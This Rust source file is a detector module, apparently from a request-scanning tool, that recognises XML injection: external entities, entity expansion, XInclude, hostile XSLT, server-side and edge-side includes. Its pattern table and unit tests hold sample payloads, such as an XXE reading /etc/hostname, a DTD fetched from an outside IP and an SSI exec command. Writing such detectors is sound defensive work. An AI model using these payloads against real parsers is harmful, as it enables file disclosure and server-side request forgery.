//! XML that makes its parser fetch, expand or run something: entities of a document type declaration, inclusions,
//! style sheets; and the server-side includes that look like its comments. Declarations are read token by token, so a
//! standard document type of HTML or SVG is nothing.
//!
//! Steps: at most 4 for each byte.

use super::context::Context;
use super::context::Strength::{self, Certain, Strong, Weak};
use super::finding::Finding;
use super::literals::{Idiom, Idioms, compile};
use super::{Detector, Wake};
use crate::canon::cursor::{self, Cursor};
use crate::flow::{Found, Fuel, Part, Place, Weight};

/// The registered detector.
pub(super) static XML: Xml = Xml;

/// Looks for declarations and inclusions.
#[derive(Debug)]
pub(super) struct Xml;

const NAME: &str = "xml";

impl Detector for Xml {
    fn name(&self) -> &'static str {
        NAME
    }

    fn wakes(&self) -> Wake {
        Wake {
            literals: &[
                "<!doctype",
                "<!entity",
                "!doctype",
                "!entity",
                "xinclude",
                "xi:include",
                "<?xml-",
                "<?import",
                "<!--#",
                "<esi:",
                "<xsl:",
                "<?xml:",
                "<!attlist",
            ],
            bytes: &[],
        }
    }

    fn inspect(&self, part: &Part<'_>, found: &mut Found, fuel: &mut Fuel) {
        let bytes = part.canonical.as_ref();
        if fuel.spend(4 * bytes.len()).is_err() {
            return;
        }
        let Some(best) = Finding::clearest([declarations(bytes), includes(bytes)].into_iter().flatten()) else {
            return;
        };
        let markup = matches!(part.place, Place::XmlMarkup | Place::XmlAttribute | Place::XmlName);
        let weight =
            if markup && best.strength >= Strong { Weight::CERTAIN } else { Context::of(part).weigh(best.strength) };
        best.report_weighing(weight, NAME, part, found);
    }
}

/// The clearest of the document type and entity declarations.
fn declarations(bytes: &[u8]) -> Option<Finding> {
    let mut best: Option<Finding> = None;
    let mut entities = 0;
    let mut referring = 0;
    let mut cursor = Cursor::new(bytes, 0);
    while let Some(at) = memchr::memchr(b'!', cursor.rest()).map(|at| cursor.at() + at) {
        cursor = Cursor::new(bytes, at + 1);
        let found = if cursor.eat(b"ENTITY") {
            entities += 1;
            entity(&mut cursor, &mut referring)
        } else if cursor.eat(b"DOCTYPE") {
            document_type(&mut cursor)
        } else {
            None
        };
        if let Some((strength, name)) = found.filter(|(s, _)| best.is_none_or(|b| b.strength < *s)) {
            best = Some(Finding { strength, name, at, end: cursor.at() });
        }
    }
    if referring >= 2 && best.is_none_or(|b| b.strength < Certain) {
        return Some(Finding { strength: Certain, name: "xml-entity-expansion", at: 0, end: bytes.len() });
    }
    best.or((entities > 0).then_some(Finding { strength: Strong, name: "xml-entity", at: 0, end: bytes.len() }))
}

/// `<!ENTITY name "…">`, `<!ENTITY % name SYSTEM "…">`.
fn entity(cursor: &mut Cursor<'_>, referring: &mut usize) -> Option<(Strength, &'static str)> {
    if cursor.blanks() == 0 {
        return None;
    }
    let parameter = cursor.eat(b"%") || cursor.eat(b"&#37;") || cursor.eat(b"&#x25;");
    cursor.blanks();
    cursor.take_up_to(128, |b| b > b' ' && b != b'>' && b != b'"');
    cursor.blanks();
    let external = cursor.eat(b"SYSTEM") || cursor.eat(b"PUBLIC");
    if external {
        return Some((Certain, "xml-external-entity"));
    }
    let value = literal(cursor);
    *referring += usize::from(
        value.iter().filter(|b| **b == b'&').count() >= 2 || value.contains(&b'%') && value.contains(&b';'),
    );
    parameter.then_some((Strong, "xml-parameter-entity"))
}

fn literal<'a>(cursor: &mut Cursor<'a>) -> &'a [u8] {
    match cursor.peek() {
        Some(quote @ (b'"' | b'\'')) => {
            cursor.skip(1);
            let value = cursor.take_while(|b| b != quote);
            cursor.skip(1);
            value
        }
        _ => b"",
    }
}

/// `<!DOCTYPE name SYSTEM "…" [`: one that names a definition to fetch, other than the standard ones.
fn document_type(cursor: &mut Cursor<'_>) -> Option<(Strength, &'static str)> {
    cursor.blanks();
    cursor.take_up_to(128, |b| b > b' ' && !matches!(b, b'>' | b'['));
    cursor.blanks();
    let public = cursor.eat(b"PUBLIC");
    if !public && !cursor.eat(b"SYSTEM") {
        return None;
    }
    cursor.blanks();
    let mut system = literal(cursor);
    if public {
        cursor.blanks();
        system = literal(cursor);
    }
    let standard = system.is_empty() || STANDARD.iter().any(|prefix| cursor::starts_with(system, prefix));
    (!standard).then_some((Strong, "xml-external-definition"))
}

/// Definitions that no parser fetches, because it has them.
const STANDARD: &[&[u8]] = &[
    b"http://www.w3.org/",
    b"https://www.w3.org/",
    b"about:legacy-compat",
    b"http://www.apple.com/DTDs/",
    b"http://java.sun.com/",
    b"http://xml.apache.org/",
    b"http://www.oasis-open.org/",
    b"http://hibernate",
    b"http://mybatis.org/",
    b"http://www.springframework.org/",
    b"http://checkstyle",
    b"https://checkstyle",
];

#[rustfmt::skip] // a table
const TABLE: &[Idiom] = &[
    ("xi:include", Strong, "xml-inclusion"), ("2001/xinclude", Strong, "xml-inclusion"),
    ("<?xml-stylesheet", Weak, "xml-style-sheet"), ("<?import ", Strong, "xml-style-sheet"),
    ("<?xml:namespace", Strong, "xml-style-sheet"), ("<xsl:value-of select=\"document(", Certain, "xml-style-sheet"),
    ("<xsl:include", Strong, "xml-style-sheet"), ("<xsl:import", Strong, "xml-style-sheet"),
    ("system-property(", Strong, "xml-style-sheet"), ("<msxsl:script", Certain, "xml-style-sheet"),
    ("php:function(", Certain, "xml-style-sheet"), ("unparsed-text(", Strong, "xml-style-sheet"),
    ("<!--#exec", Certain, "xml-server-include"), ("<!--#include", Certain, "xml-server-include"),
    ("<!--#echo", Strong, "xml-server-include"), ("<!--#printenv", Strong, "xml-server-include"),
    ("<!--#config", Strong, "xml-server-include"), ("<!--#set", Strong, "xml-server-include"),
    ("<!--#if", Weak, "xml-server-include"), ("<!--#fsize", Strong, "xml-server-include"),
    ("<!--#flastmod", Strong, "xml-server-include"), ("<!-- #exec", Strong, "xml-server-include"),
    ("<!-- #include", Strong, "xml-server-include"), ("<esi:include", Certain, "xml-edge-include"),
    ("<esi:inline", Certain, "xml-edge-include"), ("<esi:vars", Strong, "xml-edge-include"),
    ("<esi:debug", Strong, "xml-edge-include"), ("<esi:remove", Strong, "xml-edge-include"),
    ("<!--esi", Strong, "xml-edge-include"), ("<!attlist", Strong, "xml-external-definition"),
];
static IDIOMS: Idioms = Idioms::new(TABLE, || compile(TABLE));

fn includes(bytes: &[u8]) -> Option<Finding> {
    Finding::clearest(IDIOMS.find(bytes).into_iter().map(|found| Finding {
        strength: if brings_its_sheet(bytes, &found) { Strong } else { found.strength },
        ..found
    }))
}

/// A style sheet that is no file of the same site: `href="data:…"`, a script, a part of the document itself.
fn brings_its_sheet(bytes: &[u8], found: &Finding) -> bool {
    let rest = bytes.get(found.end..).unwrap_or_default();
    let head = rest.get(..rest.len().min(160)).unwrap_or_default();
    let Some(at) = cursor::find(head, b"href=").filter(|_| found.name == "xml-style-sheet") else { return false };
    let target = head.get(at + 5..).unwrap_or_default();
    let target = target.strip_prefix(b"\"").or(target.strip_prefix(b"'")).unwrap_or(target);
    [&b"data:"[..], b"javascript:", b"#", b"//"].iter().any(|start| cursor::starts_with(target, start))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn total(place: Place, value: &str) -> u32 {
        let mut found = Found::default();
        XML.inspect(&Part::plain(place, b"", value.as_bytes()), &mut found, &mut Fuel::new(1_000_000));
        found.total()
    }

    #[test]
    fn declarations_that_fetch_are_attacks() {
        for value in [
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]>",
            "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://203.0.113.9/a.dtd'> %b;]>",
            "<!doctype a system \"http://203.0.113.9/a.dtd\">",
            "<!DOCTYPE a PUBLIC \"x\" \"http://203.0.113.9/a.dtd\">",
            "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///x'/></a>",
            "<!DOCTYPE a [<!ENTITY b \"x\"><!ENTITY c \"&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;\">]>",
        ] {
            assert!(total(Place::XmlMarkup, value) >= 100, "{value}");
            assert!(total(Place::FormValue, value) >= 100, "{value}");
        }
    }

    #[test]
    fn includes_are_attacks() {
        for value in [
            "<!--#exec cmd=\"id\" -->",
            "<!--#echo var=\"DATE_LOCAL\" -->",
            "<esi:include src=\"http://203.0.113.9/\"/>",
        ] {
            assert!(total(Place::QueryValue, value) >= 100, "{value}");
        }
    }

    #[test]
    fn standard_documents_are_nothing() {
        for value in [
            "<!DOCTYPE html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'>",
            "<?xml version=\"1.0\"?>",
            "<!-- a comment -->",
            "entity !important",
        ] {
            assert_eq!(total(Place::XmlMarkup, value), 0, "{value}");
        }
    }

    proptest! {
        #[test]
        fn any_declaration_is_read(text in "(<!|ENTITY|DOCTYPE| |%|SYSTEM|'|\"|>|a|&b;|\\[){0,60}") {
            XML.inspect(&Part::plain(Place::XmlMarkup, b"", text.as_bytes()), &mut Found::default(), &mut Fuel::new(10_000));
        }
    }
}
